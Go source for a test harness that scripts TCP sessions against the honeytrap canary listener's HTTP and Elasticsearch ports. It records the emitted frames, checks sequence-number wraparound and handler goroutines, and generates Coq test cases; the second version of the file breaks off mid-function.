var writingPorts = map[int]bool{80: true, 9200: true}

func zeroResponse() []byte {
	var b bytes.Buffer
	resp := http.Response{}
	w := bufio.NewWriter(&b)
	resp.Write(w)
	w.Flush()
	return b.Bytes()
}

// headVerdict: complete (a request head http.ReadRequest accepts), rejected (it returns an
// error without wanting more bytes) or incomplete (it would wait for more).
func headVerdict(stream []byte) string {
	_, err := http.ReadRequest(bufio.NewReader(bytes.NewReader(stream)))
	switch {
	case err == nil:
		return "complete"
	case err == io.EOF || err == io.ErrUnexpectedEOF:
		return "incomplete"
	}
	return "rejected"
}

func replyFor(dport int, stream []byte) []byte {
	if writingPorts[dport] && headVerdict(stream) == "complete" {
		return zeroResponse()
	}
	return nil
}

// ---- one session ----
func runRsp(in RspIn) (RspObs, string) {
	var obs RspObs
	var stream []byte
	for _, s := range in.Segs {
		stream = append(stream, s...)
	}
	obs.Reply = replyFor(in.DPort, stream)

	cap := &capture{}
	arp := canary.ARPCache{{IP: net.IPv4(in.SIP[0], in.SIP[1], in.SIP[2], in.SIP[3]), HardwareAddress: macOf(in.SIP), Interface: "lo"}}
	v, err := canary.NewVerifCanary("lo", arp, nil, cap)
	if err != nil {
		hx.Fatal("NewVerifCanary: %v", err)
	}
	defer v.Close()
	// the knock detector is not started: handleTCP only queues into its (buffered) channel

	var crash string
	var srvNext uint32 // next sequence number expected from the listener
	sent := uint32(0)
	handler := 0
	step := func(flags int, payload []byte, ackOverride *uint32) *RspStep {
		s := Seg{SIP: in.SIP, DIP: me, SPort: in.SPort, DPort: in.DPort, Seq: in.ISN + 1 + sent, Ack: srvNext, Flags: flags, Payload: payload}
		if flags&fSYN != 0 {
			s.Seq = in.ISN
			s.Ack = 0
		}
		if ackOverride != nil {
			s.Ack = *ackOverride
		}
		st := RspStep{Seg: s}
		func() {
			defer func() {
				if rec := recover(); rec != nil {
					crash = fmt.Sprint("panic in handleTCP: ", rec)
				}
			}()
			v.Inject(buildFrame(s))
		}()
		if crash != "" {
			obs.Steps = append(obs.Steps, st)
			return nil
		}
		sent += uint32(len(payload))
		if flags&fFIN != 0 {
			sent++
		}
		if handler != 0 {
			switch waitHandler(handler, 30*time.Second) {
			case "ended":
				st.Decoder = true
				handler = 0
			case "timeout":
				crash = "the port handler neither waits for data nor ends"
			}
		}
		for _, f := range v.DrainTx() {
			st.Frames = append(st.Frames, hx.B(f))
			fl, seq, _, ipid, ok := parseOut(f)
			if !ok {
				continue
			}
			if flags&fSYN != 0 && fl == fSYN|fACK {
				st.Fresh = [3]uint{1, uint(seq - 1), uint(ipid)}
				srvNext = seq + 1
				continue
			}
			if len(f) > 54 {
				srvNext = seq + uint32(len(f)-54)
			}
			if fl&fFIN != 0 {
				srvNext = seq + uint32(len(f)-54) + 1
			}
		}
		if flags&fSYN != 0 && st.Fresh[0] == 0 {
			st.Fresh = [3]uint{1, 0, 0}
		}
		obs.Steps = append(obs.Steps, st)
		if crash != "" {
			return nil
		}
		return &obs.Steps[len(obs.Steps)-1]
	}

	if step(fSYN, nil, nil) == nil {
		return obs, crash
	}
	before := handlerGoroutines()
	if step(fACK, nil, nil) == nil {
		return obs, crash
	}
	// the port handler of this connection: the one goroutine started by handleTCP that was
	// not there before; wait until it is parked in Socket.Read
	deadline := time.Now().Add(30 * time.Second)
	for handler == 0 {
		for id := range handlerGoroutines() {
			if _, old := before[id]; !old {
				handler = id
			}
		}
		if handler == 0 {
			if time.Now().After(deadline) {
				return obs, "no port handler was started by the handshake-completing ACK"
			}
			time.Sleep(50 * time.Microsecond)
		}
	}
	if waitHandler(handler, 30*time.Second) != "parked" {
		return obs, "the port handler does not wait for the client's data"
	}
	for i, p := range in.Segs {
		fl := fACK
		if in.Push[i] || i == len(in.Segs)-1 {
			fl |= fPSH
		}
		if step(fl, p, nil) == nil {
			return obs, crash
		}
	}
	if len(in.Tail) > 0 {
		if step(fACK|fPSH, in.Tail, nil) == nil {
			return obs, crash
		}
	}
	switch in.End {
	case 0:
		if step(fACK, nil, nil) == nil {
			return obs, crash
		}
		if step(fFIN|fACK, nil, nil) == nil {
			return obs, crash
		}
	case 1:
		old := srvNext - 1 // does not cover the listener's FIN
		if step(fFIN|fACK, nil, &old) == nil {
			return obs, crash
		}
	default:
		if step(fFIN|fACK, nil, nil) == nil {
			return obs, crash
		}
	}
	if in.End == 0 { // the last ACK of a polite client (after its own FIN): nothing is answered
		if step(fACK, nil, nil) == nil {
			return obs, crash
		}
	}
	if handler != 0 {
		return obs, "the port handler is still running after the client closed"
	}
	if extra := v.DrainTx(); len(extra) > 0 {
		return obs, fmt.Sprintf("%d unsolicited frames after the session", len(extra))
	}
	for _, e := range cap.take() {
		m := event.ToMap(e)
		if _, ok := m["source-port"]; ok {
			obs.Events++
		}
	}
	return obs, ""
}

func coqRspCase(id int, in RspIn, obs RspObs) string {
	var steps []string
	for _, st := range obs.Steps {
		s := st.Seg
		var fr []string
		for _, f := range st.Frames {
			fr = append(fr, hx.CoqBytes(f))
		}
		steps = append(steps, fmt.Sprintf("mkStep (mkSeg %s %s %s %s %s %s %s %s) (%s, %s, %s) %s %s", coqIP(s.SIP), coqIP(s.DIP),
			hx.CoqZ(int64(s.SPort)), hx.CoqZ(int64(s.DPort)), hx.CoqZ(int64(s.Seq)), hx.CoqZ(int64(s.Ack)), hx.CoqZ(int64(s.Flags)),
			hx.CoqBytes(s.Payload), hx.CoqN(uint64(st.Fresh[0])), hx.CoqZ(int64(st.Fresh[1])), hx.CoqZ(int64(st.Fresh[2])),
			hx.CoqBool(st.Decoder), hx.CoqList(fr, "bytes")))
	}
	return fmt.Sprintf("mkCase %s [0;0;0;0;0;0]%%N [127;0;0;1]%%N %s %s", hx.CoqN(uint64(id)), hx.CoqBytes(obs.Reply), hx.CoqList(steps, "step"))
}

// ---- generator ----
func cut(r *hx.Rand, b []byte, n int) []hx.B {
	var out []hx.B
	for len(out) < n-1 && len(b) > 1 {
		k := r.Range(1, len(b)-1)
		out = append(out, hx.B(b[:k]))
		b = b[k:]
	}
	return append(out, hx.B(b))
}

func genRequest(r *hx.Rand) []byte {
	alnum := []byte("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.")
	var sb strings.Builder
	sb.WriteString(r.PickStr([]string{"GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS"}))
	sb.WriteString(" /")
	sb.Write(r.BytesFrom(r.Range(0, 60), alnum))
	if r.Chance(1, 3) {
		sb.WriteString("?q=")
		sb.Write(r.BytesFrom(r.Range(0, 20), alnum))
	}
	sb.WriteString(r.PickStr([]string{" HTTP/1.1\r\n", " HTTP/1.1\r\n", " HTTP/1.0\r\n"}))
	for i, n := 0, r.Range(0, 6); i < n; i++ {
		sb.WriteString(r.PickStr([]string{"Host", "User-Agent", "Accept", "X-" + string(r.BytesFrom(r.Range(1, 12), alnum)), "Content-Type", "Cookie"}))
		sb.WriteString(": ")
		sb.Write(r.BytesFrom(r.Range(0, 80), alnum))
		sb.WriteString("\r\n")
	}
	sb.WriteString("\r\n")
	if r.Chance(1, 5) { // bytes after the head (a body the decoder never reads)
		sb.Write(r.BytesFrom(r.Range(1, 40), alnum))
	}
	return []byte(sb.String())
}

// streams http.ReadRequest refuses at once (no further byte could repair them)
func genRejected(r *hx.Rand) []byte {
	return []byte(r.PickStr([]string{
		"GARBAGE\r\n\r\n",
		"GET /\r\n\r\n",
		"GET / HTTP/x.y\r\nHost: a\r\n\r\n",
		"GET / HTTP/1.1\r\nno colon here\r\n\r\n",
		"\x16\x03\x01\x00\x2f\x01\x00\x00\x2b\x03\x03 not http\r\n\r\n",
		"GET / HTTP/1.1\r\n bad: continuation\r\n\r\n",
	}))
}

func rspInputs(o hx.Opts, r *hx.Rand) []RspIn {
	var ins []RspIn
	one := func(b []byte) ([]hx.B, []bool) { return []hx.B{hx.B(b)}, []bool{true} }
	// corpus: every writing port x client ISNs at the wrap, whole and split heads of odd and
	// even length, and peers/ports that move the checksum (the reply itself is fixed)
	k := 0
	for _, p := range []int{80, 9200} {
		for _, isn := range []uint32{0xffffffff, 0x7fffffff, 0, 0xfffffffe, 0x80000000} {
			req := []byte(fmt.Sprintf("GET /%s HTTP/1.1\r\nHost: sensor\r\n\r\n", strings.Repeat("a", k)))
			in := RspIn{SIP: [4]byte{10, 9, 0, byte(9 + k)}, SPort: 42001 + k, DPort: p, ISN: isn, End: k % 3}
			in.Segs, in.Push = one(req)
			if k%2 == 1 {
				in.Segs = cut(r, req, 3)
				in.Push = []bool{k%4 == 1, false, true}[:len(in.Segs)]
			}
			ins = append(ins, in)
			k++
		}
	}
	{ // the request's last bytes arrive so that the acknowledgement number wraps to 0 and to 1
		req := []byte("GET /_cat/indices HTTP/1.1\r\nHost: honeypot\r\nUser-Agent: c14\r\n\r\n")
		for d := 0; d < 3; d++ {
			in := RspIn{SIP: [4]byte{10, 9, 1, 200}, SPort: 50000 + d, DPort: 9200, ISN: uint32(int64(1)<<32 - 2 - int64(len(req)) + int64(d))}
			in.Segs, in.Push = one(req)
			ins = append(ins, in)
		}
	}
	// extreme addresses and ports: large and small 16-bit words in the pseudo header / ports
	for i, sip := range [][4]byte{{255, 255, 255, 254}, {1, 0, 0, 1}, {10, 255, 0, 255}} {
		in := RspIn{SIP: sip, SPort: []int{65535, 1, 32768}[i], DPort: []int{80, 9200, 80}[i], ISN: uint32(r.U64()), End: i}
		in.Segs, in.Push = one([]byte("POST /x HTTP/1.0\r\n\r\n"))
		in.Tail = hx.B("body after the answer")
		ins = append(ins, in)
	}
	n := 40
	if o.Tier != "quick" {
		n = 400
	}
	isns := []uint32{0, 1, 0x7fffffff, 0x80000000, 0xfffffffe, 0xffffffff, 0xfffffff0}
	for i := 0; i < n; i++ {
		in := RspIn{SIP: [4]byte{10, byte(r.Range(0, 255)), byte(r.Range(0, 255)), byte(r.Range(1, 254))}, SPort: r.Range(1024, 65535),
			DPort: r.PickInt([]int{80, 9200, 80, 9200, 80, 9200, 23, 443, 139, 445, 1433, 6379}), End: r.Intn(3)}
		if in.SPort == in.DPort {
			in.SPort++
		}
		if r.Chance(1, 2) {
			in.ISN = isns[r.Intn(len(isns))]
		} else {
			in.ISN = uint32(r.U64())
		}
		var stream []byte
		switch {
		case !writingPorts[in.DPort]:
			stream = r.Bytes(r.Range(1, 300))
			if r.Chance(1, 3) {
				stream = genRequest(r)
			}
		case r.Chance(1, 6):
			stream = genRejected(r)
		default:
			stream = genRequest(r)
		}
		if writingPorts[in.DPort] && headVerdict(stream) == "incomplete" {
			stream = append(stream, "\r\n\r\n"...) // never leave the decoder waiting for more
		}
		in.Segs = cut(r, stream, r.Range(1, 5))
		for j := range in.Segs {
			in.Push = append(in.Push, j == len(in.Segs)-1 || r.Chance(1, 3))
		}
		if r.Chance(1, 4) {
			// sequence-number alignment: the stream ends at 2^32-1, 0 or 1
			in.ISN = uint32(int64(1)<<32 - 2 - int64(len(stream)) + int64(r.Range(0, 2)))
		}
		if r.Chance(1, 4) {
			in.Tail = hx.B(r.Bytes(r.Range(1, 200)))
		}
		ins = append(ins, in)
	}
	return ins
}

func rspPart(o hx.Opts, r *hx.Rand, only *RspIn) {
	var ins []RspIn
	if only != nil {
		ins = []RspIn{*only}
	} else {
		ins = rspInputs(o, r)
	}
	dist := map[string]int{}
	var cases []hx.Case
	for i, in := range ins {
		if len(in.Push) != len(in.Segs) {
			in.Push = make([]bool, len(in.Segs))
		}
		obs, crash := runRsp(in)
		dist[fmt.Sprintf("dport:%d", in.DPort)]++
		dist[fmt.Sprintf("client-segments:%d", len(in.Segs))]++
		for _, st := range obs.Steps {
			for _, f := range st.Frames {
				if len(f) > 54 {
					dist[fmt.Sprintf("emitted-segment-length:%d", len(f)-34)]++
					if (len(f)-34)%2 == 1 {
						dist["emitted-odd-length-segments"]++
					} else {
						dist["emitted-even-length-data-segments"]++
					}
				}
			}
			if st.Decoder {
				dist["decoder-ran-to-its-end"]++
			}
		}
		if len(obs.Reply) > 0 {
			dist["sessions-with-a-reply"]++
		}
		kind := "session"
		if writingPorts[in.DPort] {
			kind = "session-writing-port"
		}
		cases = append(cases, hx.Case{ID: i, Kind: kind, Input: in, Obs: obs, Crash: crash, Coq: coqRspCase(i, in, obs)})
	}
	hx.Write(o, "C14", "rsp", "From HT Require Import Common.Bytes C14.Model C14.CheckRsp.", "case", cases, dist, nil, 40)
}
