// C14 harness, part "rsp": full sessions on the decoded ports, in particular the two
// whose decoder WRITES to the connection (80: DecodeHTTP, 9200: DecodeElasticsearch).
// The listener then emits segments that carry payload of its own (longer than 20
// bytes); every emitted frame of the session is recorded, also the ones the decoder
// goroutine sends after handleTCP has returned.
//
// Synchronisation is on conditions only: the decoder goroutine of the connection is
// identified in the runtime's goroutine dump (created by handleTCP, not there before
// the handshake-completing ACK) and the harness injects the next segment / drains
// the transmit ring only when that goroutine is parked in Socket.Read or has ended.
package main

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener/canary"
	"verif/harness/hx"
)

// RspIn is one scripted session.
type RspIn struct {
	SIP   [4]byte `json:"sip"`
	SPort int     `json:"sport"`
	DPort int     `json:"dport"`
	ISN   uint32  `json:"isn"`
	Segs  []hx.B  `json:"segs"` // the client's stream, cut into in-order segments
	Push  []bool  `json:"push"` // PSH per segment (the last one is always pushed)
	Tail  hx.B    `json:"tail"` // sent after the listener has answered and closed (FIN-WAIT): still acknowledged
	// how the client ends: 0 = ACK of the listener's FIN, then FIN|ACK; 1 = FIN|ACK that
	// does not acknowledge the listener's FIN (crossing); 2 = FIN|ACK acknowledging it at once
	End int `json:"end"`
	// Script, when present, replaces Segs/Push between the handshake and the ending: client segments
	// and WRITES of the listener itself (verif hook VerifCanary.Write = State.write) in the given order
	Script []RspOp `json:"script,omitempty"`
	// Steer > 0: up to that many connections are opened (further source ports of the same peer) and
	// the one whose first data sequence number ISS+1 lies closest below 2^32 is used (ISS is drawn by
	// the implementation from the process-wide PRNG)
	Steer int `json:"steer,omitempty"`
	// CrossMax > 0: if, after steering, at most that many 4096-byte writes reach 2^32, they are put in
	// front of the script at run time so that the listener's sequence numbers cross the wrap
	CrossMax int `json:"cross_max,omitempty"`
}

// RspOp is one scripted action after the handshake.
type RspOp struct {
	Write bool `json:"write,omitempty"` // the listener writes Data; otherwise the client sends Data
	Data  hx.B `json:"data"`
	Push  bool `json:"push,omitempty"` // client segment: PSH
	// write: the last 16-bit word of Data is chosen at run time so that the TCP checksum field of
	// the emitted segment comes out as 0x0000 (sum of everything else = 0 mod 0xffff)
	Ck0     bool   `json:"ck0,omitempty"`
	Content string `json:"content,omitempty"` // how Data was made (for the evidence only)
}

type RspStep struct {
	Seg     Seg     `json:"seg"`
	Fresh   [3]uint `json:"fresh,omitempty"`
	Decoder bool    `json:"decoder"` // the decoder goroutine ran to its end during this step
	IsWrite bool    `json:"is_write,omitempty"`
	Written hx.B    `json:"written,omitempty"` // the bytes handed to State.write in this step (Seg = last client segment)
	SndNxt  uint32  `json:"snd_nxt,omitempty"` // State().SendNext just before the write
	Frames  []hx.B  `json:"frames"`
}

type RspObs struct {
	Steps  []RspStep `json:"steps"`
	Reply  hx.B      `json:"reply"` // what the decoder writes for this stream (computed with the real net/http)
	Events int       `json:"events"`
	// listener writes: did the listener's sequence numbers pass 2^32 while it wrote, and how far
	// below 2^32 the first data byte was
	SeqWrapped bool   `json:"seq_wrapped,omitempty"`
	WrapDist   uint32 `json:"wrap_dist,omitempty"`
	Ck0Hit     int    `json:"ck0_hit,omitempty"` // emitted data segments whose checksum field is 0x0000
}

// ---- goroutine dump ----
var goroutineHdr = regexp.MustCompile(`^goroutine (\d+) \[([^\]]*)\]:`)

// The port handler is recognised by WHERE it was created and where it waits (package
// listener/canary), not by the names of unexported functions: renaming handleTCP or Socket.Read
// is a harmless rewrite and must not disturb the synchronisation of this harness.
const createdByCanary = "created by github.com/honeytrap/honeytrap/listener/canary."
const inCanary = "github.com/honeytrap/honeytrap/listener/canary."

// blocked goroutine states of the runtime's dump in which a handler can only be woken by a frame
// the harness injects (waiting for data in a select / on a channel / on a condition)
var blockedStates = []string{"select", "chan receive", "sync.Cond.Wait"}

var dumpBuf = make([]byte, 1<<18) // sessions of this part run one after the other

type gstate struct {
	parked bool // waiting in the select of Socket.Read
}

// handlerGoroutines returns the goroutines started by handleTCP (the per-connection
// port handlers) that currently exist.
func handlerGoroutines() map[int]gstate {
	var buf []byte
	for {
		n := runtime.Stack(dumpBuf, true)
		if n < len(dumpBuf) {
			buf = dumpBuf[:n]
			break
		}
		dumpBuf = make([]byte, 2*len(dumpBuf))
	}
	out := map[int]gstate{}
	for _, blk := range strings.Split(string(buf), "\n\n") {
		m := goroutineHdr.FindStringSubmatch(blk)
		if m == nil || !strings.Contains(blk, createdByCanary) {
			continue
		}
		id, _ := strconv.Atoi(m[1])
		blocked := false
		for _, st := range blockedStates {
			if strings.HasPrefix(m[2], st) {
				blocked = true
			}
		}
		// the frames above "created by": at least one inside the canary package (the read it waits in)
		body := blk
		if i := strings.Index(blk, "created by "); i >= 0 {
			body = blk[:i]
		}
		out[id] = gstate{parked: blocked && strings.Contains(body, inCanary)}
	}
	return out
}

// waitHandler waits until goroutine id is parked in Socket.Read (returns "parked") or
// has ended ("ended"); "timeout" after the deadline.
func waitHandler(id int, d time.Duration) string {
	deadline := time.Now().Add(d)
	for {
		g, ok := handlerGoroutines()[id]
		if !ok {
			return "ended"
		}
		if g.parked {
			return "parked"
		}
		if time.Now().After(deadline) {
			return "timeout"
		}
		runtime.Gosched()
		time.Sleep(50 * time.Microsecond)
	}
}

// waitAllHandlersParked waits until every existing port handler goroutine is parked (or none is
// left); it gives up silently after d - the case is then judged as before.
func waitAllHandlersParked(d time.Duration) {
	deadline := time.Now().Add(d)
	for {
		all := true
		for _, g := range handlerGoroutines() {
			if !g.parked {
				all = false
			}
		}
		if all || time.Now().After(deadline) {
			return
		}
		runtime.Gosched()
		time.Sleep(50 * time.Microsecond)
	}
}

// ---- oracle: what the decoder of this port writes for this stream ----
var writingPorts = map[int]bool{80: true, 9200: true}

func zeroResponse() []byte {
	var b bytes.Buffer
	resp := http.Response{}
	w := bufio.NewWriter(&b)
	resp.Write(w)
	w.Flush()
	return b.Bytes()
}

// headVerdict: complete (a request head http.ReadRequest accepts), rejected (it returns an
// error without wanting more bytes) or incomplete (it would wait for more).
func headVerdict(stream []byte) string {
	_, err := http.ReadRequest(bufio.NewReader(bytes.NewReader(stream)))
	switch {
	case err == nil:
		return "complete"
	case err == io.EOF || err == io.ErrUnexpectedEOF:
		return "incomplete"
	}
	return "rejected"
}

func replyFor(dport int, stream []byte) []byte {
	if writingPorts[dport] && headVerdict(stream) == "complete" {
		return zeroResponse()
	}
	return nil
}

// ---- one session ----
func runRsp(in RspIn) (RspObs, string) {
	var obs RspObs
	ops := in.Script
	if ops == nil {
		for i, p := range in.Segs {
			ops = append(ops, RspOp{Data: p, Push: in.Push[i] || i == len(in.Segs)-1})
		}
	}
	var stream []byte
	for _, op := range ops {
		if !op.Write {
			stream = append(stream, op.Data...)
		}
	}
	obs.Reply = replyFor(in.DPort, stream)

	cap := &capture{}
	arp := canary.ARPCache{{IP: net.IPv4(in.SIP[0], in.SIP[1], in.SIP[2], in.SIP[3]), HardwareAddress: macOf(in.SIP), Interface: "lo"}}
	v, err := canary.NewVerifCanary("lo", arp, nil, cap)
	if err != nil {
		hx.Fatal("NewVerifCanary: %v", err)
	}
	defer v.Close()
	// handleTCP queues every SYN into the knock detector's channel: it has to be drained
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	v.StartKnockDetector(ctx)

	var crash string
	var srvNext uint32 // next sequence number expected from the listener
	sent := uint32(0)
	handler := 0
	var lastSeg Seg
	step := func(flags int, payload []byte, ackOverride *uint32) *RspStep {
		s := Seg{SIP: in.SIP, DIP: me, SPort: in.SPort, DPort: in.DPort, Seq: in.ISN + 1 + sent, Ack: srvNext, Flags: flags, Payload: payload}
		if flags&fSYN != 0 {
			s.Seq = in.ISN
			s.Ack = 0
		}
		if ackOverride != nil {
			s.Ack = *ackOverride
		}
		st := RspStep{Seg: s}
		lastSeg = s
		func() {
			defer func() {
				if rec := recover(); rec != nil {
					crash = fmt.Sprint("panic in handleTCP: ", rec)
				}
			}()
			v.Inject(buildFrame(s))
		}()
		if crash != "" {
			obs.Steps = append(obs.Steps, st)
			return nil
		}
		sent += uint32(len(payload))
		if flags&fFIN != 0 {
			sent++
		}
		if handler != 0 {
			switch waitHandler(handler, 30*time.Second) {
			case "ended":
				st.Decoder = true
				handler = 0
			case "timeout":
				crash = "the port handler neither waits for data nor ends"
			}
		}
		for _, f := range v.DrainTx() {
			st.Frames = append(st.Frames, hx.B(f))
			fl, seq, _, ipid, ok := parseOut(f)
			if !ok {
				continue
			}
			if flags&fSYN != 0 && fl == fSYN|fACK {
				st.Fresh = [3]uint{1, uint(seq - 1), uint(ipid)}
				srvNext = seq + 1
				continue
			}
			if len(f) > 54 {
				srvNext = seq + uint32(len(f)-54)
			}
			if fl&fFIN != 0 {
				srvNext = seq + uint32(len(f)-54) + 1
			}
		}
		if flags&fSYN != 0 && st.Fresh[0] == 0 {
			st.Fresh = [3]uint{1, 0, 0}
		}
		obs.Steps = append(obs.Steps, st)
		if crash != "" {
			return nil
		}
		return &obs.Steps[len(obs.Steps)-1]
	}

	if step(fSYN, nil, nil) == nil {
		return obs, crash
	}
	if in.Steer > 0 && len(obs.Steps[0].Frames) == 1 {
		// look for a connection whose ISS is close below 2^32: each further SYN (another source
		// port of the same peer: no port value is shared, the lookups cannot confuse them) creates a
		// record with a fresh ISS; the SYN step of the best one is kept
		total := uint32(0)
		for _, op := range ops {
			if op.Write {
				total += uint32(len(op.Data))
			}
		}
		best, bestNext, bestPort := obs.Steps[0], srvNext, in.SPort
		orig := in.SPort
		for i := 1; i <= in.Steer && i < 64000 && -bestNext > total; i++ { // -x = distance of x to 2^32
			in.SPort = 1024 + (orig-1024+i)%64512 // every candidate once
			if in.SPort == in.DPort || in.SPort == 22 {
				continue
			}
			obs.Steps = nil
			if step(fSYN, nil, nil) == nil {
				return obs, crash
			}
			if len(obs.Steps[0].Frames) == 1 && -srvNext < -bestNext {
				best, bestNext, bestPort = obs.Steps[0], srvNext, in.SPort
			}
		}
		obs.Steps, srvNext, in.SPort, lastSeg = []RspStep{best}, bestNext, bestPort, best.Seg
	}
	obs.WrapDist = -srvNext
	if n := int(obs.WrapDist/4096) + 1; in.CrossMax > 0 && n <= in.CrossMax {
		fill := hx.NewRand(uint64(in.ISN) + 77)
		var pre []RspOp
		for i := 0; i < n; i++ {
			pre = append(pre, RspOp{Write: true, Data: hx.B(fill.Bytes(4096)), Content: "random"})
		}
		ops = append(pre, ops...)
	}
	writeStep := func(op RspOp) bool {
		data := append([]byte(nil), op.Data...)
		sip, dip := net.IP(in.SIP[:]), net.IP(me[:])
		si := v.State(sip, dip, uint16(in.SPort), uint16(in.DPort))
		if si == nil {
			crash = "no connection record for the established connection"
			return false
		}
		if op.Ck0 && len(data) >= 2 {
			steerChecksumZero(in, si.SendNext, si.RecvNext, data)
		}
		st := RspStep{Seg: lastSeg, IsWrite: true, Written: hx.B(data), SndNxt: si.SendNext}
		func() {
			defer func() {
				if rec := recover(); rec != nil {
					crash = fmt.Sprint("panic in State.write: ", rec)
				}
			}()
			if !v.Write(sip, dip, uint16(in.SPort), uint16(in.DPort), data) {
				crash = "no connection record for the write"
			}
		}()
		if crash == "" && handler != 0 && waitHandler(handler, 30*time.Second) != "parked" {
			crash = "a write of the listener disturbed the port handler"
		}
		for _, f := range v.DrainTx() {
			st.Frames = append(st.Frames, hx.B(f))
			if fl, seq, _, _, ok := parseOut(f); ok {
				n := uint32(len(f) - 54)
				if seq+n < seq {
					obs.SeqWrapped = true
				}
				if n > 0 && f[50] == 0 && f[51] == 0 {
					obs.Ck0Hit++
				}
				srvNext = seq + n
				if fl&fFIN != 0 {
					srvNext++
				}
			}
		}
		obs.Steps = append(obs.Steps, st)
		return crash == ""
	}
	before := handlerGoroutines()
	if step(fACK, nil, nil) == nil {
		return obs, crash
	}
	// the port handler of this connection: the one goroutine started by handleTCP that was
	// not there before; wait until it is parked in Socket.Read
	deadline := time.Now().Add(30 * time.Second)
	for handler == 0 {
		for id := range handlerGoroutines() {
			if _, old := before[id]; !old {
				handler = id
			}
		}
		if handler == 0 {
			if time.Now().After(deadline) {
				return obs, "no port handler was started by the handshake-completing ACK"
			}
			time.Sleep(50 * time.Microsecond)
		}
	}
	if waitHandler(handler, 30*time.Second) != "parked" {
		return obs, "the port handler does not wait for the client's data"
	}
	for _, op := range ops {
		if op.Write {
			if !writeStep(op) {
				return obs, crash
			}
			continue
		}
		fl := fACK
		if op.Push {
			fl |= fPSH
		}
		if step(fl, op.Data, nil) == nil {
			return obs, crash
		}
	}
	if len(in.Tail) > 0 {
		if step(fACK|fPSH, in.Tail, nil) == nil {
			return obs, crash
		}
	}
	switch in.End {
	case 0:
		if step(fACK, nil, nil) == nil {
			return obs, crash
		}
		if step(fFIN|fACK, nil, nil) == nil {
			return obs, crash
		}
	case 1:
		old := srvNext - 1 // does not cover the listener's FIN
		if step(fFIN|fACK, nil, &old) == nil {
			return obs, crash
		}
	default:
		if step(fFIN|fACK, nil, nil) == nil {
			return obs, crash
		}
	}
	if in.End == 0 { // the last ACK of a polite client (after its own FIN): nothing is answered
		if step(fACK, nil, nil) == nil {
			return obs, crash
		}
	}
	if handler != 0 {
		return obs, "the port handler is still running after the client closed"
	}
	if extra := v.DrainTx(); len(extra) > 0 {
		return obs, fmt.Sprintf("%d unsolicited frames after the session", len(extra))
	}
	for _, e := range cap.take() {
		m := event.ToMap(e)
		if _, ok := m["source-port"]; ok {
			obs.Events++
		}
	}
	return obs, ""
}

func coqRspCase(id int, in RspIn, obs RspObs) string {
	var steps []string
	for _, st := range obs.Steps {
		s := st.Seg
		var fr []string
		for _, f := range st.Frames {
			fr = append(fr, hx.CoqBytes(f))
		}
		wr := "(@None bytes)"
		if st.IsWrite {
			wr = "(Some " + hx.CoqBytes(st.Written) + ")"
		}
		steps = append(steps, fmt.Sprintf("mkStep (mkSeg %s %s %s %s %s %s %s %s) (%s, %s, %s) %s %s %s", coqIP(s.SIP), coqIP(s.DIP),
			hx.CoqZ(int64(s.SPort)), hx.CoqZ(int64(s.DPort)), hx.CoqZ(int64(s.Seq)), hx.CoqZ(int64(s.Ack)), hx.CoqZ(int64(s.Flags)),
			hx.CoqBytes(s.Payload), hx.CoqN(uint64(st.Fresh[0])), hx.CoqZ(int64(st.Fresh[1])), hx.CoqZ(int64(st.Fresh[2])),
			wr, hx.CoqBool(st.Decoder), hx.CoqList(fr, "bytes")))
	}
	return fmt.Sprintf("mkCase %s [0;0;0;0;0;0]%%N [127;0;0;1]%%N %s %s", hx.CoqN(uint64(id)), hx.CoqBytes(obs.Reply), hx.CoqList(steps, "step"))
}

// ---- generator ----
func cut(r *hx.Rand, b []byte, n int) []hx.B {
	var out []hx.B
	for len(out) < n-1 && len(b) > 1 {
		k := r.Range(1, len(b)-1)
		out = append(out, hx.B(b[:k]))
		b = b[k:]
	}
	return append(out, hx.B(b))
}

func genRequest(r *hx.Rand) []byte {
	alnum := []byte("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.")
	var sb strings.Builder
	sb.WriteString(r.PickStr([]string{"GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS"}))
	sb.WriteString(" /")
	sb.Write(r.BytesFrom(r.Range(0, 60), alnum))
	if r.Chance(1, 3) {
		sb.WriteString("?q=")
		sb.Write(r.BytesFrom(r.Range(0, 20), alnum))
	}
	sb.WriteString(r.PickStr([]string{" HTTP/1.1\r\n", " HTTP/1.1\r\n", " HTTP/1.0\r\n"}))
	for i, n := 0, r.Range(0, 6); i < n; i++ {
		sb.WriteString(r.PickStr([]string{"Host", "User-Agent", "Accept", "X-" + string(r.BytesFrom(r.Range(1, 12), alnum)), "Content-Type", "Cookie"}))
		sb.WriteString(": ")
		sb.Write(r.BytesFrom(r.Range(0, 80), alnum))
		sb.WriteString("\r\n")
	}
	sb.WriteString("\r\n")
	if r.Chance(1, 5) { // bytes after the head (a body the decoder never reads)
		sb.Write(r.BytesFrom(r.Range(1, 40), alnum))
	}
	return []byte(sb.String())
}

// streams http.ReadRequest refuses at once (no further byte could repair them)
func genRejected(r *hx.Rand) []byte {
	return []byte(r.PickStr([]string{
		"GARBAGE\r\n\r\n",
		"GET /\r\n\r\n",
		"GET / HTTP/x.y\r\nHost: a\r\n\r\n",
		"GET / HTTP/1.1\r\nno colon here\r\n\r\n",
		"\x16\x03\x01\x00\x2f\x01\x00\x00\x2b\x03\x03 not http\r\n\r\n",
		"GET / HTTP/1.1\r\n bad: continuation\r\n\r\n",
	}))
}

func rspInputs(o hx.Opts, r *hx.Rand) []RspIn {
	var ins []RspIn
	one := func(b []byte) ([]hx.B, []bool) { return []hx.B{hx.B(b)}, []bool{true} }
	// corpus: every writing port x client ISNs at the wrap, whole and split heads of odd and
	// even length, and peers/ports that move the checksum (the reply itself is fixed)
	k := 0
	for _, p := range []int{80, 9200} {
		for _, isn := range []uint32{0xffffffff, 0x7fffffff, 0, 0xfffffffe, 0x80000000} {
			req := []byte(fmt.Sprintf("GET /%s HTTP/1.1\r\nHost: sensor\r\n\r\n", strings.Repeat("a", k)))
			in := RspIn{SIP: [4]byte{10, 9, 0, byte(9 + k)}, SPort: 42001 + k, DPort: p, ISN: isn, End: k % 3}
			in.Segs, in.Push = one(req)
